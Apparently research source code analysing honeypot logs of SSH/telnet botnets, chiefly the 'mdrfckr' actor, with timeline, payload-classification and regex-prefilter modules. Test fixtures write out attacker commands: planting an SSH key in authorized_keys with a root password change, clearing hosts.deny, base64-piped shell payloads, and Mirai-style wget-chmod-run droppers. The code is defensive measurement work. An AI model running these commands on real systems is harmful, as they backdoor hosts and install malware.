        assert_eq!(String::from_utf8_lossy(&c.take_output()), "exit\r\n");
        assert!(c.is_done());
    }

    #[test]
    fn gives_up_after_exhausting_credentials() {
        let mut c = TelnetClient::new(TelnetScript {
            logins: vec![("root".into(), "root".into())],
            commands: vec![],
        });
        c.input(b"svr04 login: ").unwrap();
        c.take_output();
        c.input(b"Password: ").unwrap();
        c.take_output();
        c.input(b"\r\nLogin incorrect\r\n").unwrap();
        assert!(c.is_done());
    }
}
