//! The `mdrfckr` case study (paper §9, Figs. 12/13).

use honeypot::SessionRecord;
use hutil::{base64, Date, Month};
use netsim::Ipv4Addr;
use std::collections::{BTreeMap, HashMap, HashSet};

/// Whether a session belongs to the mdrfckr actor (its planted key label).
pub fn is_mdrfckr(rec: &SessionRecord) -> bool {
    rec.commands.iter().any(|c| c.input.contains("mdrfckr"))
}

/// The two behavioural generations of the bot.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum MdrfckrKind {
    /// Original: locks the victim out via a root password change.
    Initial,
    /// Post-2022-12-08 variant: no password change; removes WorkMiner's
    /// `auth.sh`/`secure.sh` and clears `hosts.deny`.
    Variant,
}

/// Classifies an mdrfckr session; `None` for non-mdrfckr sessions.
pub fn mdrfckr_kind(rec: &SessionRecord) -> Option<MdrfckrKind> {
    if !is_mdrfckr(rec) {
        return None;
    }
    let text = rec.command_text();
    let variant_markers =
        text.contains("hosts.deny") || text.contains("auth.sh") || text.contains("secure.sh");
    if variant_markers && !text.contains("chpasswd") {
        Some(MdrfckrKind::Variant)
    } else {
        Some(MdrfckrKind::Initial)
    }
}

/// Fig. 12: daily sessions and unique client IPs.
#[derive(Debug, Clone, Default)]
pub struct Timeline {
    /// Per day: `(sessions, unique client IPs)`.
    pub daily: BTreeMap<Date, (u64, u64)>,
}

/// Streaming accumulator behind [`timeline`].
#[derive(Debug, Default)]
pub struct TimelineAccumulator {
    per_day: BTreeMap<Date, (u64, HashSet<Ipv4Addr>)>,
}

impl TimelineAccumulator {
    /// An empty accumulator.
    pub fn new() -> Self {
        Self::default()
    }

    /// Folds one session in (non-mdrfckr sessions contribute nothing).
    pub fn push(&mut self, rec: &SessionRecord) {
        if !is_mdrfckr(rec) {
            return;
        }
        let e = self.per_day.entry(rec.start.date()).or_default();
        e.0 += 1;
        e.1.insert(rec.client_ip);
    }

    /// Folds another accumulator in: per-day session counts sum and IP
    /// sets union. Associative and commutative.
    pub fn merge(&mut self, other: Self) {
        for (date, (n, ips)) in other.per_day {
            let e = self.per_day.entry(date).or_default();
            e.0 += n;
            e.1.extend(ips);
        }
    }

    /// Resolves per-day unique-IP counts into the timeline.
    pub fn finish(self) -> Timeline {
        Timeline {
            daily: self
                .per_day
                .into_iter()
                .map(|(d, (n, ips))| (d, (n, ips.len() as u64)))
                .collect(),
        }
    }
}

/// Builds the Fig. 12 timeline. Single pass over any session stream.
pub fn timeline<I>(sessions: I) -> Timeline
where
    I: IntoIterator,
    I::Item: std::borrow::Borrow<SessionRecord>,
{
    let mut acc = TimelineAccumulator::new();
    for rec in sessions {
        acc.push(std::borrow::Borrow::borrow(&rec));
    }
    acc.finish()
}

/// Detects low-activity windows: days whose session count falls below
/// `frac` of the median daily count, merged into contiguous runs.
pub fn detect_dips(tl: &Timeline, frac: f64) -> Vec<(Date, Date)> {
    if tl.daily.is_empty() {
        return Vec::new();
    }
    let mut counts: Vec<u64> = tl.daily.values().map(|(n, _)| *n).collect();
    counts.sort_unstable();
    let median = counts[counts.len() / 2] as f64;
    let threshold = median * frac;
    // Scan every day of the observed span: days with *zero* sessions do
    // not appear in the map but are the deepest dips of all.
    let first = *tl.daily.keys().next().expect("non-empty");
    let last = *tl.daily.keys().next_back().expect("non-empty");
    let mut dips: Vec<(Date, Date)> = Vec::new();
    let mut d = first;
    while d <= last {
        let n = tl.daily.get(&d).map_or(0, |(n, _)| *n);
        if (n as f64) < threshold {
            match dips.last_mut() {
                // Merge runs separated by at most one day.
                Some(prev) if d.days_since(prev.1) <= 2 => prev.1 = d,
                _ => dips.push((d, d)),
            }
        }
        d = d.plus_days(1);
    }
    dips
}

/// A Fig. 12 dip annotated against the fleet's coverage calendar: a dip
/// during which the fleet was mostly dark is a measurement gap, not an
/// attacker behaviour.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct AnnotatedDip {
    /// First day of the dip.
    pub start: Date,
    /// Last day of the dip.
    pub end: Date,
    /// True when the fleet was, on average, more than half down during
    /// the dip — the dip is explained by coverage, not behaviour.
    pub coverage_gap: bool,
}

/// Annotates detected dips against a coverage calendar.
pub fn annotate_dips(
    dips: &[(Date, Date)],
    cal: &crate::coverage::CoverageCalendar,
) -> Vec<AnnotatedDip> {
    dips.iter()
        .map(|&(start, end)| AnnotatedDip {
            start,
            end,
            coverage_gap: cal.mean_down_frac(start, end) > 0.5,
        })
        .collect()
}

/// Fig. 12 dip detection with coverage annotation in one step.
pub fn fig12_dips(
    tl: &Timeline,
    frac: f64,
    cal: &crate::coverage::CoverageCalendar,
) -> Vec<AnnotatedDip> {
    annotate_dips(&detect_dips(tl, frac), cal)
}

/// Fig. 13: monthly counts of the initial bot, the variant, and the
/// `3245gs5662d34` login campaign.
#[derive(Debug, Clone, Default)]
pub struct VariantSeries {
    /// Per month: `[initial, variant, cred-3245 logins]`.
    pub monthly: BTreeMap<Month, [u64; 3]>,
}

/// Builds the Fig. 13 series.
pub fn variant_series(sessions: &[SessionRecord]) -> VariantSeries {
    let mut monthly: BTreeMap<Month, [u64; 3]> = BTreeMap::new();
    for rec in sessions {
        let month = rec.start.date().month_of();
        match mdrfckr_kind(rec) {
            Some(MdrfckrKind::Initial) => monthly.entry(month).or_default()[0] += 1,
            Some(MdrfckrKind::Variant) => monthly.entry(month).or_default()[1] += 1,
            None => {
                if rec.accepted_password() == Some("3245gs5662d34") {
                    monthly.entry(month).or_default()[2] += 1;
                }
            }
        }
    }
    VariantSeries { monthly }
}

/// §9: IP overlap between the mdrfckr actor and the 3245gs5662d34
/// credential campaign (paper: 99.4 %).
pub fn cred_overlap_frac(sessions: &[SessionRecord]) -> f64 {
    let mdr: HashSet<Ipv4Addr> = sessions
        .iter()
        .filter(|r| is_mdrfckr(r))
        .map(|r| r.client_ip)
        .collect();
    let cred: HashSet<Ipv4Addr> = sessions
        .iter()
        .filter(|r| r.accepted_password() == Some("3245gs5662d34"))
        .map(|r| r.client_ip)
        .collect();
    if cred.is_empty() {
        return 0.0;
    }
    cred.iter().filter(|ip| mdr.contains(ip)).count() as f64 / cred.len() as f64
}

/// The three payload families delivered base64-encoded during dips.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum B64Payload {
    /// Cryptominer setup.
    Miner,
    /// IRC shellbot install.
    Shellbot,
    /// Process/file cleanup targeting the C2 IPs.
    Cleanup,
    /// Decoded but unrecognised.
    Other,
}

/// Result of decoding every base64 upload.
#[derive(Debug, Clone, Default)]
pub struct B64Analysis {
    /// Sessions carrying a base64 payload.
    pub sessions: u64,
    /// Unique uploader IPs (paper: 1,624).
    pub unique_uploader_ips: u64,
    /// True when no uploader IP appears in more than one dip period.
    pub no_ip_reuse_across_dips: bool,
    /// Payload counts.
    pub by_payload: HashMap<B64Payload, u64>,
    /// C2 IPs named by cleanup scripts (paper: 8).
    pub c2_ips: Vec<Ipv4Addr>,
    /// Sessions that decoded but failed UTF-8/shape checks.
    pub undecodable: u64,
}

/// Extracts the base64 blob from an `echo <b64>|base64 -d|sh` command.
pub fn extract_b64(command: &str) -> Option<&str> {
    if !command.contains("base64 -d") {
        return None;
    }
    let echo_part = command.split('|').next()?;
    echo_part.trim().strip_prefix("echo ").map(str::trim)
}

/// Classifies a decoded payload script.
pub fn classify_payload(script: &str) -> B64Payload {
    if script.contains("pkill") {
        B64Payload::Cleanup
    } else if script.contains("xmr") || script.contains("donate") {
        B64Payload::Miner
    } else if script.contains("IO::Socket") || script.contains("NICK") {
        B64Payload::Shellbot
    } else {
        B64Payload::Other
    }
}

/// Decodes and aggregates every base64 upload in the dataset.
pub fn b64_analysis(sessions: &[SessionRecord], dips: &[(Date, Date)]) -> B64Analysis {
    let mut out = B64Analysis::default();
    let mut uploader_dips: HashMap<Ipv4Addr, HashSet<usize>> = HashMap::new();
    let mut c2: HashSet<Ipv4Addr> = HashSet::new();
    for rec in sessions.iter().filter(|r| is_mdrfckr(r)) {
        let Some(b64) = rec.commands.iter().find_map(|c| extract_b64(&c.input)) else {
            continue;
        };
        out.sessions += 1;
        let date = rec.start.date();
        let dip_idx = dips.iter().position(|(s, e)| date >= *s && date <= *e);
        uploader_dips
            .entry(rec.client_ip)
            .or_default()
            .insert(dip_idx.map_or(usize::MAX, |i| i));
        match base64::decode(b64)
            .ok()
            .and_then(|b| String::from_utf8(b).ok())
        {
            Some(script) => {
                let kind = classify_payload(&script);
                *out.by_payload.entry(kind).or_default() += 1;
                if kind == B64Payload::Cleanup {
                    for tok in script.split_whitespace() {
                        if let Some(ip) = Ipv4Addr::parse(tok) {
                            c2.insert(ip);
                        }
                    }
                }
            }
            None => out.undecodable += 1,
        }
    }
    out.unique_uploader_ips = uploader_dips.len() as u64;
    out.no_ip_reuse_across_dips = uploader_dips.values().all(|d| d.len() <= 1);
    let mut c2: Vec<Ipv4Addr> = c2.into_iter().collect();
    c2.sort_unstable();
    out.c2_ips = c2;
    out
}

/// One correlated event: `(event description, documented window, detected
/// overlap)`.
pub type EventMatch = (String, (Date, Date), Option<(Date, Date)>);

/// §10 "Events correlation": matches detected low-activity windows against
/// the documented geopolitical event windows. Returns per-documented-window
/// verdicts plus the count of detected dips with no documented counterpart.
#[derive(Debug, Clone)]
pub struct EventCorrelation {
    /// `(event description, documented window, detected overlap)`.
    pub matches: Vec<EventMatch>,
    /// Detected dips that overlap no documented event.
    pub unexplained: Vec<(Date, Date)>,
}

impl EventCorrelation {
    /// Number of documented windows that were rediscovered.
    pub fn hits(&self) -> usize {
        self.matches.iter().filter(|(_, _, d)| d.is_some()).count()
    }

    /// Renders the §10 correlation table.
    pub fn render(&self) -> String {
        let mut out = String::from(
            "== §10 events correlation ==
",
        );
        for (event, (ds, de), detected) in &self.matches {
            match detected {
                Some((s, e)) => out.push_str(&format!(
                    "  {ds}..{de}  REDISCOVERED ({s}..{e})  {event}
"
                )),
                None => out.push_str(&format!(
                    "  {ds}..{de}  missed              {event}
"
                )),
            }
        }
        for (s, e) in &self.unexplained {
            out.push_str(&format!(
                "  {s}..{e}  detected, no documented event
"
            ));
        }
        out
    }
}

/// Correlates detected dips with a documented event list
/// (`(start, end, description)` triples).
pub fn correlate_events(
    dips: &[(Date, Date)],
    documented: &[(Date, Date, String)],
) -> EventCorrelation {
    let overlaps = |a: (Date, Date), b: (Date, Date)| a.0 <= b.1 && a.1 >= b.0;
    let matches = documented
        .iter()
        .map(|(s, e, desc)| {
            let hit = dips.iter().copied().find(|d| overlaps(*d, (*s, *e)));
            (desc.clone(), (*s, *e), hit)
        })
        .collect();
    let unexplained = dips
        .iter()
        .copied()
        .filter(|d| !documented.iter().any(|(s, e, _)| overlaps(*d, (*s, *e))))
        .collect();
    EventCorrelation {
        matches,
        unexplained,
    }
}

/// Killnet-list overlap with mdrfckr client IPs (paper: 988 IPs).
pub fn killnet_overlap(sessions: &[SessionRecord], killnet: &abusedb::IpList) -> usize {
    let mdr: HashSet<Ipv4Addr> = sessions
        .iter()
        .filter(|r| is_mdrfckr(r))
        .map(|r| r.client_ip)
        .collect();
    killnet.overlap_count(mdr.iter())
}

/// Shadowserver-style count: distinct sensors where the mdrfckr key was
/// planted (the paper's special report counts >13k compromised servers
/// carrying the key; our analogue is fleet coverage).
pub fn compromised_sensor_count(sessions: &[SessionRecord]) -> usize {
    sessions
        .iter()
        .filter(|r| {
            is_mdrfckr(r)
                && r.file_events
                    .iter()
                    .any(|e| e.path.ends_with("authorized_keys"))
        })
        .map(|r| r.honeypot_id)
        .collect::<HashSet<_>>()
        .len()
}

#[cfg(test)]
mod tests {
    use super::*;
    use honeypot::{CommandRecord, FileEvent, FileOp, LoginAttempt, Protocol, SessionEndReason};

    fn rec(date: Date, commands: Vec<&str>, ip: u32, pw: &str) -> SessionRecord {
        SessionRecord {
            session_id: 0,
            honeypot_id: (ip % 5) as u16,
            honeypot_ip: Ipv4Addr(1),
            client_ip: Ipv4Addr(ip),
            client_port: 1,
            protocol: Protocol::Ssh,
            start: date.at(9, 0, 0),
            end: date.at(9, 2, 0),
            end_reason: SessionEndReason::ClientClose,
            client_version: None,
            logins: vec![LoginAttempt {
                username: "root".into(),
                password: pw.into(),
                success: true,
            }],
            commands: commands
                .into_iter()
                .map(|c| CommandRecord {
                    input: c.to_string(),
                    known: true,
                })
                .collect(),
            uris: vec![],
            file_events: vec![FileEvent {
                path: "/root/.ssh/authorized_keys".into(),
                op: FileOp::Created {
                    sha256: "ab".repeat(32),
                },
                source_uri: None,
            }],
        }
    }

    const INITIAL: &str =
        r#"cd ~ && echo "ssh-rsa AAA mdrfckr">>.ssh/authorized_keys; echo root:xxx|chpasswd"#;
    const VARIANT: &str = r#"cd ~ && echo "ssh-rsa AAA mdrfckr">>.ssh/authorized_keys; rm -rf /tmp/auth.sh; echo > /etc/hosts.deny"#;

    #[test]
    fn kind_detection() {
        let i = rec(Date::new(2022, 5, 1), vec![INITIAL], 1, "a");
        let v = rec(Date::new(2023, 5, 1), vec![VARIANT], 2, "a");
        let n = rec(Date::new(2023, 5, 1), vec!["uname -a"], 3, "a");
        assert_eq!(mdrfckr_kind(&i), Some(MdrfckrKind::Initial));
        assert_eq!(mdrfckr_kind(&v), Some(MdrfckrKind::Variant));
        assert_eq!(mdrfckr_kind(&n), None);
    }

    #[test]
    fn timeline_counts_sessions_and_ips() {
        let d = Date::new(2022, 5, 1);
        let sessions = vec![
            rec(d, vec![INITIAL], 1, "a"),
            rec(d, vec![INITIAL], 1, "a"),
            rec(d, vec![INITIAL], 2, "a"),
            rec(d.plus_days(1), vec![INITIAL], 3, "a"),
        ];
        let tl = timeline(&sessions);
        assert_eq!(tl.daily[&d], (3, 2));
        assert_eq!(tl.daily[&d.plus_days(1)], (1, 1));
    }

    #[test]
    fn dip_detection_merges_runs() {
        let mut sessions = Vec::new();
        let start = Date::new(2022, 5, 1);
        for i in 0..30 {
            let d = start.plus_days(i);
            let n = if (10..=14).contains(&i) { 1 } else { 20 };
            for j in 0..n {
                sessions.push(rec(d, vec![INITIAL], 100 + j, "a"));
            }
        }
        let tl = timeline(&sessions);
        let dips = detect_dips(&tl, 0.2);
        assert_eq!(dips.len(), 1);
        assert_eq!(dips[0], (start.plus_days(10), start.plus_days(14)));
    }

    #[test]
    fn variant_series_buckets_all_three() {
        let sessions = vec![
            rec(Date::new(2023, 1, 5), vec![INITIAL], 1, "a"),
            rec(Date::new(2023, 1, 6), vec![VARIANT], 2, "a"),
            rec(Date::new(2023, 1, 7), vec![], 3, "3245gs5662d34"),
        ];
        let vs = variant_series(&sessions);
        assert_eq!(vs.monthly[&Month::new(2023, 1)], [1, 1, 1]);
    }

    #[test]
    fn overlap_fraction() {
        let sessions = vec![
            rec(Date::new(2023, 1, 5), vec![INITIAL], 1, "a"),
            rec(Date::new(2023, 1, 5), vec![INITIAL], 2, "a"),
            rec(Date::new(2023, 1, 7), vec![], 1, "3245gs5662d34"),
            rec(Date::new(2023, 1, 8), vec![], 9, "3245gs5662d34"),
        ];
        assert!((cred_overlap_frac(&sessions) - 0.5).abs() < 1e-12);
    }

    #[test]
    fn b64_extraction_and_classification() {
        let miner = base64::encode(b"#!/bin/sh\nwget xmr.tar.gz --donate 0");
        let cleanup = base64::encode(b"#!/bin/sh\npkill -f 198.18.7.1\npkill -f 198.18.7.2");
        let cmd_m = format!("echo {miner}|base64 -d|sh");
        let cmd_c = format!("echo {cleanup}|base64 -d|sh");
        let d = Date::new(2022, 10, 12);
        let sessions = vec![
            rec(d, vec![INITIAL, &cmd_m], 1, "a"),
            rec(d, vec![INITIAL, &cmd_c], 2, "a"),
        ];
        let dips = vec![(d, d)];
        let a = b64_analysis(&sessions, &dips);
        assert_eq!(a.sessions, 2);
        assert_eq!(a.unique_uploader_ips, 2);
        assert!(a.no_ip_reuse_across_dips);
        assert_eq!(a.by_payload[&B64Payload::Miner], 1);
        assert_eq!(a.by_payload[&B64Payload::Cleanup], 1);
        assert_eq!(a.c2_ips.len(), 2);
        assert_eq!(a.undecodable, 0);
    }

    #[test]
    fn b64_ip_reuse_across_dips_is_flagged() {
        let blob = base64::encode(b"pkill -f 1.2.3.4");
        let cmd = format!("echo {blob}|base64 -d|sh");
        let d1 = Date::new(2022, 3, 20);
        let d2 = Date::new(2022, 10, 12);
        let sessions = vec![
            rec(d1, vec![INITIAL, &cmd], 1, "a"),
            rec(d2, vec![INITIAL, &cmd], 1, "a"), // same IP, second dip
        ];
        let dips = vec![(d1, d1), (d2, d2)];
        let a = b64_analysis(&sessions, &dips);
        assert!(!a.no_ip_reuse_across_dips);
    }

    #[test]
    fn sensor_count() {
        let sessions = vec![
            rec(Date::new(2022, 1, 1), vec![INITIAL], 1, "a"),
            rec(Date::new(2022, 1, 1), vec![INITIAL], 2, "a"),
            rec(Date::new(2022, 1, 1), vec![INITIAL], 6, "a"), // same sensor as ip 1
        ];
        assert_eq!(compromised_sensor_count(&sessions), 2);
    }

    #[test]
    fn event_correlation_matches_and_flags() {
        let dips = vec![
            (Date::new(2022, 3, 17), Date::new(2022, 3, 23)), // overlaps doc 1
            (Date::new(2023, 7, 1), Date::new(2023, 7, 2)),   // unexplained
        ];
        let documented = vec![
            (
                Date::new(2022, 3, 16),
                Date::new(2022, 3, 24),
                "IRIDIUM DDoS".to_string(),
            ),
            (
                Date::new(2024, 1, 19),
                Date::new(2024, 1, 21),
                "APT29".to_string(),
            ),
        ];
        let c = correlate_events(&dips, &documented);
        assert_eq!(c.hits(), 1);
        assert_eq!(c.unexplained.len(), 1);
        let text = c.render();
        assert!(text.contains("REDISCOVERED"));
        assert!(text.contains("missed"));
        assert!(text.contains("no documented event"));
    }

    #[test]
    fn extract_b64_requires_pipe_shape() {
        assert_eq!(extract_b64("echo QUJD|base64 -d|sh"), Some("QUJD"));
        assert_eq!(extract_b64("echo hello"), None);
        assert_eq!(extract_b64("base64 -d < f"), None);
    }
}
