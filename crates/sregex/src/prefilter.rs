//! Multi-pattern literal prefiltering.
//!
//! The Table 1 classifier asks "which of 58 patterns matches this
//! command?" for every command-execution session. Running 58 backtracking
//! searches per command is the honest answer and the slow one: most rules
//! can be ruled out by a single substring test, because their patterns
//! contain *required literals* — byte sequences that must appear in any
//! haystack the pattern matches (`mdrfckr`, `uname`, `/bin/busybox`, …).
//!
//! This module provides the two halves of that shortcut:
//!
//! * [`required_literals`] walks a pattern's AST and extracts required
//!   literals (see the function docs for exactly which shapes yield them);
//! * [`AhoCorasick`] is a byte-level multi-pattern automaton that finds,
//!   in one linear pass over the haystack, which of *all* rules' literals
//!   occur.
//!
//! [`crate::RegexSet`] combines them: one automaton pass produces a
//! candidate-rule mask, and only candidate rules pay for the backtracking
//! VM.

use crate::ast::Ast;

/// Literals shorter than this are discarded: a 1-byte "required literal"
/// is present in almost every command line and filters nothing.
pub const MIN_LITERAL_LEN: usize = 2;

/// At most this many required literals are kept per pattern (the longest
/// ones, which are the most selective). Purely a size bound — dropping a
/// required literal only ever *weakens* the filter, never breaks it.
const MAX_LITERALS_PER_PATTERN: usize = 8;

/// Extracts required literals from a parsed pattern: byte strings that
/// appear in **every** haystack the pattern matches. The prefilter may
/// therefore skip the pattern whenever any extracted literal is absent.
///
/// Shapes that yield literals:
///
/// * runs of adjacent [`Ast::Byte`] nodes inside concatenations (escapes
///   like `\x6F` and `\.` parse to plain bytes and join runs);
/// * grouping `(…)` is transparent — `a(bc)d` yields `abcd`;
/// * zero-width assertions (`^`, `$`, `\b`, `\B`) are transparent too:
///   they consume nothing, so the bytes on either side remain adjacent in
///   any match;
/// * positive lookahead bodies: `(?=.*curl)` requires `curl` somewhere at
///   or after the assertion point, hence somewhere in the haystack;
/// * repetitions with `min ≥ 1` require at least one copy of their body.
///
/// Shapes that yield nothing (and cut the current run):
///
/// * alternations: `wget|curl` requires *either* literal, and the
///   candidate mask models a conjunction per rule, so an alternation top
///   contributes no single required literal;
/// * `.`/character classes, optional (`min = 0`) repetitions, and
///   negative lookaheads, none of which pin down concrete bytes.
pub fn required_literals(ast: &Ast) -> Vec<Vec<u8>> {
    let mut out = Vec::new();
    let mut run = Vec::new();
    walk(ast, &mut run, &mut out);
    flush(&mut run, &mut out);
    out.sort_by(|a, b| b.len().cmp(&a.len()).then_with(|| a.cmp(b)));
    out.dedup();
    out.truncate(MAX_LITERALS_PER_PATTERN);
    out
}

fn flush(run: &mut Vec<u8>, out: &mut Vec<Vec<u8>>) {
    if run.len() >= MIN_LITERAL_LEN {
        out.push(std::mem::take(run));
    } else {
        run.clear();
    }
}

fn walk(ast: &Ast, run: &mut Vec<u8>, out: &mut Vec<Vec<u8>>) {
    match ast {
        Ast::Byte(b) => run.push(*b),
        // Zero-width: bytes before and after stay adjacent in any match.
        Ast::Empty | Ast::StartAnchor | Ast::EndAnchor | Ast::WordBoundary(_) => {}
        Ast::Concat(parts) => {
            for p in parts {
                walk(p, run, out);
            }
        }
        Ast::Group(inner) => walk(inner, run, out),
        Ast::Lookahead {
            positive: true,
            node,
        } => {
            // The body asserts a match at the current position; its own
            // required literals must appear in the haystack. Its bytes do
            // not concatenate with the surrounding run, though — the
            // pattern resumes at the assertion point, not after the body.
            flush(run, out);
            let mut inner_run = Vec::new();
            walk(node, &mut inner_run, out);
            flush(&mut inner_run, out);
        }
        Ast::Repeat { node, min, .. } if *min >= 1 => {
            // At least one copy of the body is mandatory.
            flush(run, out);
            let mut inner_run = Vec::new();
            walk(node, &mut inner_run, out);
            flush(&mut inner_run, out);
        }
        // Unpinnable shapes: alternation (either branch suffices), any
        // byte / classes (no concrete byte), optional repeats, negative
        // lookaheads.
        Ast::Alternate(_)
        | Ast::AnyByte
        | Ast::Class { .. }
        | Ast::Repeat { .. }
        | Ast::Lookahead { .. } => flush(run, out),
    }
}

// --- Aho-Corasick ---------------------------------------------------------

/// A byte-level Aho-Corasick automaton with a dense transition table:
/// one table lookup per haystack byte, no failure-link chasing at scan
/// time. Built once per [`crate::RegexSet`]; sized by the total literal
/// bytes across all rules (a few hundred states for Table 1).
#[derive(Debug, Clone)]
pub struct AhoCorasick {
    /// `trans[state][byte]` → next state. State 0 is the root.
    trans: Vec<[u32; 256]>,
    /// Pattern ids recognised on entering each state (failure closure
    /// already folded in).
    out: Vec<Vec<u32>>,
}

impl AhoCorasick {
    /// Builds the automaton over `patterns`. Pattern ids are the indices
    /// into `patterns`; empty patterns are ignored.
    pub fn new<P: AsRef<[u8]>>(patterns: &[P]) -> Self {
        // Trie construction.
        let mut trans: Vec<[u32; 256]> = vec![[u32::MAX; 256]];
        let mut out: Vec<Vec<u32>> = vec![Vec::new()];
        for (id, pat) in patterns.iter().enumerate() {
            let pat = pat.as_ref();
            if pat.is_empty() {
                continue;
            }
            let mut s = 0usize;
            for &b in pat {
                let next = trans[s][b as usize];
                s = if next == u32::MAX {
                    trans.push([u32::MAX; 256]);
                    out.push(Vec::new());
                    let n = (trans.len() - 1) as u32;
                    trans[s][b as usize] = n;
                    n as usize
                } else {
                    next as usize
                };
            }
            out[s].push(id as u32);
        }
        // BFS failure computation, densifying transitions as we go: after
        // this loop every `trans[s][b]` is a real state.
        let mut fail: Vec<u32> = vec![0; trans.len()];
        let mut queue: std::collections::VecDeque<u32> = std::collections::VecDeque::new();
        for slot in trans[0].iter_mut() {
            match *slot {
                u32::MAX => *slot = 0,
                v => {
                    fail[v as usize] = 0;
                    queue.push_back(v);
                }
            }
        }
        while let Some(u) = queue.pop_front() {
            let u = u as usize;
            let fail_row = trans[fail[u] as usize];
            for (slot, &via_fail) in trans[u].iter_mut().zip(fail_row.iter()) {
                let v = *slot;
                if v == u32::MAX {
                    *slot = via_fail;
                } else {
                    fail[v as usize] = via_fail;
                    let inherited = out[via_fail as usize].clone();
                    out[v as usize].extend(inherited);
                    queue.push_back(v);
                }
            }
        }
        Self { trans, out }
    }

    /// Number of automaton states.
    pub fn states(&self) -> usize {
        self.trans.len()
    }

    /// Scans `haystack` once, setting `hits[id] = true` for every pattern
    /// id found as a substring. `hits` must be at least as long as the
    /// pattern list the automaton was built over.
    pub fn scan(&self, haystack: &[u8], hits: &mut [bool]) {
        let mut s = 0usize;
        for &b in haystack {
            s = self.trans[s][b as usize] as usize;
            for &id in &self.out[s] {
                hits[id as usize] = true;
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::parser::parse;

    fn lits(pattern: &str) -> Vec<String> {
        required_literals(&parse(pattern).unwrap())
            .into_iter()
            .map(|l| String::from_utf8_lossy(&l).into_owned())
            .collect()
    }

    #[test]
    fn plain_literal_is_required() {
        assert_eq!(lits("mdrfckr"), vec!["mdrfckr"]);
    }

    #[test]
    fn escapes_join_runs() {
        // `update\.sh` — the escaped dot is a plain byte.
        assert_eq!(lits(r"update\.sh"), vec!["update.sh"]);
        assert_eq!(lits(r"\x45\x4c\x46"), vec!["ELF"]);
    }

    #[test]
    fn zero_width_assertions_are_transparent() {
        assert_eq!(lits(r"\becho\b"), vec!["echo"]);
        assert_eq!(lits(r"^root$"), vec!["root"]);
    }

    #[test]
    fn classes_and_dots_cut_runs() {
        assert_eq!(lits(r"uname\s+-s\s+-v"), vec!["uname", "-s", "-v"]);
        assert_eq!(lits(r"a.b"), Vec::<String>::new()); // runs too short
        assert_eq!(
            lits(r"root:[A-Za-z0-9]{15,}\|chpasswd"),
            vec!["|chpasswd", "root:"]
        );
    }

    #[test]
    fn lookahead_bodies_contribute() {
        let mut got = lits(r"(?=.*curl)(?=.*wget)");
        got.sort();
        assert_eq!(got, vec!["curl", "wget"]);
    }

    #[test]
    fn negative_lookahead_contributes_nothing() {
        assert_eq!(lits(r"(?!.*curl)"), Vec::<String>::new());
        assert_eq!(lits(r"(?!.*curl)wget"), vec!["wget"]);
    }

    #[test]
    fn alternation_tops_are_unextractable() {
        assert_eq!(lits("wget|curl"), Vec::<String>::new());
        assert_eq!(lits(r"/bin/busybox\s|busybox\s"), Vec::<String>::new());
    }

    #[test]
    fn mandatory_repeats_require_one_copy() {
        assert_eq!(lits("(abc)+"), vec!["abc"]);
        assert_eq!(lits("(abc)*"), Vec::<String>::new());
        assert_eq!(lits("(abc)?x"), Vec::<String>::new()); // runs too short
    }

    #[test]
    fn groups_are_transparent() {
        assert_eq!(lits("a(bc)d"), vec!["abcd"]);
    }

    #[test]
    fn ac_finds_all_present_patterns() {
        let pats: Vec<&[u8]> = vec![b"curl", b"wget", b"busybox", b"mdrfckr"];
        let ac = AhoCorasick::new(&pats);
        let mut hits = vec![false; pats.len()];
        ac.scan(
            b"cd /tmp; wget http://x/a.sh; curl -O http://x/a.sh",
            &mut hits,
        );
        assert_eq!(hits, vec![true, true, false, false]);
    }

    #[test]
    fn ac_handles_overlapping_and_nested_patterns() {
        // "he", "she", "his", "hers" — the textbook example.
        let pats: Vec<&[u8]> = vec![b"he", b"she", b"his", b"hers"];
        let ac = AhoCorasick::new(&pats);
        let mut hits = vec![false; pats.len()];
        ac.scan(b"ushers", &mut hits);
        assert_eq!(hits, vec![true, true, false, true]);
        let mut hits = vec![false; pats.len()];
        ac.scan(b"his", &mut hits);
        assert_eq!(hits, vec![false, false, true, false]);
    }

    #[test]
    fn ac_is_byte_exact() {
        let pats: Vec<Vec<u8>> = vec![b"\xff\x00ab".to_vec()];
        let ac = AhoCorasick::new(&pats);
        let mut hits = vec![false; 1];
        ac.scan(b"xx\xff\x00abyy", &mut hits);
        assert!(hits[0]);
        let mut hits = vec![false; 1];
        ac.scan(b"xx\xff\x01abyy", &mut hits);
        assert!(!hits[0]);
    }

    #[test]
    fn ac_empty_pattern_set() {
        let ac = AhoCorasick::new(&Vec::<Vec<u8>>::new());
        let mut hits: Vec<bool> = Vec::new();
        ac.scan(b"anything", &mut hits);
        assert_eq!(ac.states(), 1);
    }
}
