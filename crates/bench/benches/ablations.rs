//! Ablation benches for the design choices called out in DESIGN.md §5:
//!
//! 1. token-DLD vs char-DLD robustness to attacker churn;
//! 2. signature canonicalisation (dedup-before-cluster) vs raw sequences;
//! 3. k-medoids cost across k;
//! 4. regex-engine fast paths on Table 1 workloads.

use criterion::{criterion_group, criterion_main, Criterion};
use honeylab_bench::dataset;
use honeylab_core::{cluster, dld, report, tokens};
use std::hint::black_box;

/// Two sessions with identical behaviour but churned IPs/filenames.
const A: &str =
    "cd /tmp; wget http://198.51.100.2/mirai-17.sh; chmod 777 mirai-17.sh; sh mirai-17.sh";
const B: &str =
    "cd /tmp; wget http://203.0.113.99/gafgyt-5021.sh; chmod 777 gafgyt-5021.sh; sh gafgyt-5021.sh";
/// A genuinely different behaviour.
const C: &str = "echo $SHELL; dd if=/proc/self/exe bs=22 count=1";

fn ablation_token_vs_char_dld(c: &mut Criterion) {
    // Token-level distance sees churned sessions as near-identical; the
    // char-level distance does not — the paper's §6 robustness claim.
    let ta = tokens::tokenize(A);
    let tb = tokens::tokenize(B);
    let tc = tokens::tokenize(C);
    let token_same = dld::normalized_dld(&ta, &tb);
    let token_diff = dld::normalized_dld(&ta, &tc);
    let ca: Vec<char> = A.chars().collect();
    let cb: Vec<char> = B.chars().collect();
    let char_same = dld::normalized_dld(&ca, &cb);
    println!(
        "ablation token-vs-char: token(same-behaviour)={token_same:.2} \
         token(diff-behaviour)={token_diff:.2} char(same-behaviour)={char_same:.2}"
    );
    assert!(
        token_same < token_diff,
        "token distance must separate behaviours"
    );
    c.bench_function("ablation_token_dld", |b| {
